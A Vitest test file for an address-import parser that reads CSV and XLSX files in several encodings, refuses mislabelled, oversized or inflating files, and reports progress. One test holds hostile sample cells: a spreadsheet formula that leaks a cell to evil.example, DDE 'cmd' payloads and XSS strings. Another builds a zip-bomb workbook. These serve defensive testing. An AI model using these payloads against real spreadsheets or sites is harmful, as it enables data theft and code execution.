import { Temporal } from 'temporal-polyfill'
import { describe, expect, it, vi } from 'vitest'
import { LOCALITIES } from '#fixture-api/data/localities'
import { DEFAULT_SEED } from '#fixture-api/options'
import { generateDataset } from '#fixture-api/seed/generate'
import { IMPORT_LIMITS, type ReadOutcome } from './import-limits'
import { parseImportBytes, XLSX_INFLATED_LIMIT } from './parse-import-bytes'
import { fixtureBytes, testParseDeps } from './testing/import-fixtures'

const read = (name: string, bytes: Uint8Array = fixtureBytes(name)) =>
  parseImportBytes(name, bytes, testParseDeps)

async function sheetOf(name: string) {
  const outcome = await read(name)
  if (!outcome.ok) throw new Error(`${name} refused: ${JSON.stringify(outcome.refusal)}`)
  return outcome.sheet
}

const refusalOf = async (name: string, bytes?: Uint8Array) => {
  const outcome: ReadOutcome = await read(name, bytes)
  return outcome.ok ? 'read' : outcome.refusal
}

const utf8 = (text: string) => new TextEncoder().encode(text)

describe('reading the sample files', () => {
  it('reads the German Excel CSV: Windows-1252, semicolons, umlauts intact', async () => {
    const sheet = await sheetOf('addresses-de-semicolon-win1252.csv')
    expect(sheet).toMatchObject({ format: 'csv', encoding: 'windows-1252', separator: ';' })
    expect(sheet.headers).toEqual([
      'Firma',
      'Vorname',
      'Nachname',
      'Strasse',
      'Hausnummer',
      'PLZ',
      'Ort',
      'Telefon',
      'E-Mail',
    ])
    expect(sheet.rows).toHaveLength(5)
    expect(sheet.rows[0]).toEqual([
      'Bäckerei Grünig AG',
      'Jürg',
      'Müller',
      'Bahnhofstrasse',
      '12',
      '8001',
      'Zürich',
      '044 000 12 34',
      'info@gruenig.example',
    ])
    expect(sheet.rows[1]?.slice(0, 3)).toEqual(['', 'Käthi', 'Schönbächler'])
  })

  it('reads the French file: UTF-8 with its mark, commas, a quoted comma, quote and line break', async () => {
    const sheet = await sheetOf('addresses-fr-comma-utf8-bom.csv')
    expect(sheet).toMatchObject({ format: 'csv', encoding: 'utf-8', separator: ',' })
    expect(sheet.headers).toEqual([
      'Société',
      'Prénom',
      'Nom',
      'Rue',
      'NPA',
      'Localité',
      'Téléphone',
      'E-mail',
    ])
    expect(sheet.rows).toHaveLength(4)
    expect(sheet.rows[1]?.slice(0, 4)).toEqual([
      'Transports Müller, Frères & Cie',
      'Jérôme',
      'Müller',
      'Avenue de la Gare 12\nCase postale 88',
    ])
    expect(sheet.rows[2]?.[3]).toBe('Chemin des Œillets 9')
    expect(sheet.rows[3]?.[0]).toBe('Atelier "La Forêt"')
  })

  it("reads the Italian file: Excel's Unicode text, UTF-16 LE with tabs", async () => {
    const sheet = await sheetOf('addresses-it-tab-utf16le.csv')
    expect(sheet).toMatchObject({ format: 'csv', encoding: 'utf-16le', separator: '\t' })
    expect(sheet.headers).toEqual(['Ditta', 'Nome', 'Cognome', 'Via', 'CAP', 'Località', 'Telefono'])
    expect(sheet.rows.map((row) => row[1])).toEqual(['Niccolò', 'Lucía', 'Andrea'])
  })

  it('reads the English file: UTF-8 without a mark, commas', async () => {
    const sheet = await sheetOf('addresses-en-utf8.csv')
    expect(sheet).toMatchObject({ format: 'csv', encoding: 'utf-8', separator: ',' })
    expect(sheet.headers.at(-1)).toBe('Type')
    expect(sheet.rows[1]).toEqual([
      '',
      'Thomas',
      'Küng',
      'Pilatusstrasse',
      '14',
      '6003',
      'Luzern',
      '041 000 02 88',
      '',
      'Mr',
    ])
  })

  it('reads the workbook: first sheet, numbers and dates as text, the empty row gone, cells trimmed', async () => {
    const sheet = await sheetOf('addresses.xlsx')
    expect(sheet.format).toBe('xlsx')
    expect(sheet.encoding).toBeUndefined()
    expect(sheet.separator).toBeUndefined()
    expect(sheet.headers).toEqual([
      'Firma',
      'Vorname',
      'Nachname',
      'Strasse',
      'PLZ',
      'Ort',
      'Telefon',
      'Kunde seit',
      'Standard-Absender',
    ])
    expect(sheet.rows).toEqual([
      [
        'Grünig Transporte AG',
        'Jürg',
        'Müller',
        'Bahnhofstrasse 12',
        '8004',
        'Zürich',
        '41440001234',
        '01.03.2019',
        'TRUE',
      ],
      [
        'Käserei Aebi',
        'Ruth',
        'Aebi',
        'Dorfstrasse 4',
        '3011',
        'Bern',
        '+41 31 000 56 78',
        '27.11.2024',
        'FALSE',
      ],
      ['Société Genève SA', 'Aimée', 'Duc', 'Rue du Rhône 1', '1201', 'Genève', '41220009876', '', 'FALSE'],
    ])
  })

  it("reads another carrier's export layout as it is (mapping its headers is the next step's job)", async () => {
    const sheet = await sheetOf('carrier-export-layout.csv')
    expect(sheet.headers).toEqual([
      'Name 1',
      'Name 2',
      'Name 3',
      'Strasse/Nr.',
      'PLZ',
      'Ort',
      'Land',
      'Telefonnummer',
      'E-Mail-Adresse',
      'Referenz',
    ])
    expect(sheet.rows[0]?.[3]).toBe('Industriestrasse 8')
  })

  it('reads every bad row, the 10,000-character cell whole: judging them is for the checks', async () => {
    const sheet = await sheetOf('bad-rows.csv')
    expect(sheet.rows).toHaveLength(9)
    expect(sheet.rows.map((row) => row.at(-1))).toEqual([
      'valid reference row',
      'no name',
      'no street',
      'no place',
      'postcode of another place',
      'unknown postcode',
      'invalid phone',
      'impossible Anrede',
      '10,000-character company',
    ])
    expect(sheet.rows[8]?.[1]).toHaveLength(10_000)
  })

  it('reads the duplicates, whose last rows are still in the demo customer’s seeded address book', async () => {
    const sheet = await sheetOf('duplicates.csv')
    expect(sheet.rows[0]?.[3]).toBe('Bahnhofstrasse 10')
    expect(sheet.rows[1]?.[3]).toBe('Bahnhofstr. 10')
    expect(sheet.rows[3]?.[1]).toBe('Mueller Transporte GmbH')
    const dataset = generateDataset(
      DEFAULT_SEED,
      1,
      Temporal.ZonedDateTime.from('2026-11-27T10:00[Europe/Zurich]'),
    )
    const book = new Set(
      dataset.addresses
        .filter((record) => record.owner === 'customer')
        .map(({ kontaktadresse: a }) => [a.firma, a.addresse, a.postleitzahl, a.ort].join('|')),
    )
    const fromBook = sheet.rows.slice(5)
    expect(fromBook).toHaveLength(3)
    for (const row of fromBook) expect(book).toContain([row[1], row[3], row[4], row[5]].join('|'))
  })

  it('keeps hostile cells as text, control characters and direction overrides removed', async () => {
    const sheet = await sheetOf('hostile.csv')
    expect(sheet.rows.map((row) => row[0])).toEqual([
      '=HYPERLINK("http://evil.example/?leak="&A1,"Klick")',
      "+cmd|' /C calc'!A0",
      '-1+1',
      "@SUM(1+1)*cmd|' /C calc'!A0",
      '<script>alert("xss")</script>',
      '<img src=x onerror=alert(1)>',
      'Kontrollzeichen AG[31m',
      'Tab am Anfang AG',
    ])
    expect(sheet.rows[6]?.slice(1, 3)).toEqual(['Bel Back', 'Bahnhofstrasse 7'])
    expect(sheet.rows[7]?.slice(1, 3)).toEqual(['"Zitat" Meier', 'Bahnhofstrasse 8\nHinterhaus'])
  })

  it('reads the 10,000-row file whole, every row at a place the fixture knows, none twice', async () => {
    const sheet = await sheetOf('addresses-10000.csv')
    expect(sheet).toMatchObject({ encoding: 'utf-8', separator: ';' })
    expect(sheet.headers).toEqual([
      'Firma',
      'Vorname',
      'Nachname',
      'Strasse',
      'Hausnummer',
      'PLZ',
      'Ort',
      'Telefon',
    ])
    expect(sheet.rows).toHaveLength(IMPORT_LIMITS.rows)
    const places = new Set(
      LOCALITIES.filter((place) => place.is_active).map((place) => `${place.code} ${place.name_de}`),
    )
    expect(sheet.rows.every((row) => row.length === 8 && places.has(`${row[5]} ${row[6]}`))).toBe(true)
    expect(new Set(sheet.rows.map((row) => row.join(';'))).size).toBe(IMPORT_LIMITS.rows)
  })
})

describe('umlauts in every encoding', () => {
  const text = 'Firma;Ort\r\nBäckerei Grünig AG;Zürich\r\nCafé Bär;Genève\r\n'
  const utf16 = (littleEndian: boolean, bom: boolean) => {
    const units = bom ? `\ufeff${text}` : text
    const bytes = new Uint8Array(units.length * 2)
    const view = new DataView(bytes.buffer)
    for (let index = 0; index < units.length; index++)
      view.setUint16(index * 2, units.charCodeAt(index), littleEndian)
    return bytes
  }
  it.each([
    ['utf-8', utf8(text)],
    ['utf-8', new Uint8Array([0xef, 0xbb, 0xbf, ...utf8(text)])],
    ['utf-16le', utf16(true, true)],
    ['utf-16le', utf16(true, false)],
    ['utf-16be', utf16(false, true)],
    ['utf-16be', utf16(false, false)],
    ['windows-1252', Uint8Array.from(text, (char) => char.charCodeAt(0))],
  ] as const)('survive %s', async (encoding, bytes) => {
    const outcome = await read('umlauts.csv', bytes)
    expect(outcome).toEqual({
      ok: true,
      sheet: {
        format: 'csv',
        encoding,
        separator: ';',
        headers: ['Firma', 'Ort'],
        rows: [
          ['Bäckerei Grünig AG', 'Zürich'],
          ['Café Bär', 'Genève'],
        ],
      },
    })
  })
})

describe('refusals', () => {
  it('refuses a .csv that is really a picture, a PDF, a workbook or a zip', async () => {
    const expected = { code: 'not-what-it-says', expected: 'csv' }
    expect(await refusalOf('not-a-csv.csv')).toEqual(expected)
    expect(await refusalOf('statement.csv', utf8('%PDF-1.7\n1 0 obj\n<< /Type /Catalog >>'))).toEqual(
      expected,
    )
    expect(await refusalOf('addresses.csv', fixtureBytes('addresses.xlsx'))).toEqual(expected)
    const executable = Uint8Array.from({ length: 2048 }, (_, index) => (index * 31) % 256)
    expect(await refusalOf('program.csv', executable)).toEqual(expected)
  })

  it('refuses an .xlsx that is text, an old .xls or a zip without a workbook', async () => {
    const expected = { code: 'not-what-it-says', expected: 'xlsx' }
    expect(await refusalOf('not-an-xlsx.xlsx')).toEqual(expected)
    expect(
      await refusalOf('old.xlsx', new Uint8Array([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1, 1])),
    ).toEqual(expected)
    expect(await refusalOf('photo.xlsx', fixtureBytes('not-a-csv.csv'))).toEqual(expected)
  })

  it('refuses other types by their name, even when the content is CSV', async () => {
    for (const name of ['addresses.txt', 'addresses.xls', 'addresses.pdf', 'addresses', 'csv']) {
      expect(await refusalOf(name, utf8('Firma;Ort\nMuster AG;Bern\n'))).toEqual({ code: 'unsupported-type' })
    }
    expect(await refusalOf('ADDRESSES.CSV', utf8('Firma;Ort\nMuster AG;Bern\n'))).toBe('read')
  })

  it('refuses an empty file, a header without rows and a file of blank lines as empty', async () => {
    expect(await refusalOf('empty.csv')).toEqual({ code: 'empty' })
    expect(await refusalOf('headers-only.csv')).toEqual({ code: 'empty' })
    expect(await refusalOf('blank.csv', utf8('\r\n \r\n;;;\r\n'))).toEqual({ code: 'empty' })
    expect(await refusalOf('bom-only.csv', new Uint8Array([0xef, 0xbb, 0xbf]))).toEqual({ code: 'empty' })
  })

  it('refuses more than 5 MB', async () => {
    const line = utf8('Muster AG;Bahnhofstrasse 1;8001;Zürich\n')
    const bytes = new Uint8Array(IMPORT_LIMITS.bytes + 1)
    for (let offset = 0; offset < bytes.length; offset += line.length)
      bytes.set(line.subarray(0, bytes.length - offset), offset)
    expect(await refusalOf('big.csv', bytes)).toEqual({
      code: 'too-large',
      bytes: IMPORT_LIMITS.bytes + 1,
      limit: IMPORT_LIMITS.bytes,
    })
  })

  it('refuses more than 10,000 data rows, and reads exactly 10,000', async () => {
    const file = (rows: number) =>
      utf8(['Firma;Ort', ...Array.from({ length: rows }, (_, index) => `Firma ${index};Bern`)].join('\n'))
    expect(await refusalOf('limit.csv', file(IMPORT_LIMITS.rows))).toBe('read')
    expect(await refusalOf('over.csv', file(IMPORT_LIMITS.rows + 1))).toEqual({
      code: 'too-many-rows',
      rows: IMPORT_LIMITS.rows + 1,
      limit: IMPORT_LIMITS.rows,
    })
  })

  it('refuses a workbook that would inflate beyond reason before inflating it', async () => {
    const bomb = fixtureBytes('addresses.xlsx')
    const view = new DataView(bomb.buffer)
    let end = bomb.length - 22
    while (view.getUint32(end, true) !== 0x06054b50) end--
    const firstEntry = view.getUint32(end + 16, true)
    view.setUint32(firstEntry + 24, XLSX_INFLATED_LIMIT + 1, true)
    const loadXlsxReader = vi.fn(testParseDeps.loadXlsxReader)
    expect(await parseImportBytes('bomb.xlsx', bomb, { loadXlsxReader })).toEqual({
      ok: false,
      refusal: { code: 'unreadable' },
    })
    expect(loadXlsxReader).not.toHaveBeenCalled()
  })

  it('refuses a damaged workbook as unreadable instead of failing', async () => {
    const damaged = fixtureBytes('addresses.xlsx')
    // The sheet's compressed bytes overwritten; the zip's directory still lists a workbook.
    damaged.fill(0x55, 1200, 1800)
    expect(await refusalOf('damaged.xlsx', damaged)).toEqual({ code: 'unreadable' })
  })
})

describe('progress and loading', () => {
  it('reports progress rising to 1, and never loads the workbook reader for a CSV', async () => {
    const progress: number[] = []
    const loadXlsxReader = vi.fn(testParseDeps.loadXlsxReader)
    await parseImportBytes('a.csv', fixtureBytes('addresses-10000.csv'), { loadXlsxReader }, (fraction) =>
      progress.push(fraction),
    )
    expect(loadXlsxReader).not.toHaveBeenCalled()
    expect(progress.length).toBeGreaterThan(3)
    expect(progress).toEqual([...progress].sort((a, b) => a - b))
    expect(progress.at(-1)).toBe(1)
  })

  it('loads the workbook reader for an xlsx and reports progress to 1', async () => {
    const progress: number[] = []
    const loadXlsxReader = vi.fn(testParseDeps.loadXlsxReader)
    await parseImportBytes('a.xlsx', fixtureBytes('addresses.xlsx'), { loadXlsxReader }, (fraction) =>
      progress.push(fraction),
    )
    expect(loadXlsxReader).toHaveBeenCalledOnce()
    expect(progress.at(-1)).toBe(1)
  })
})
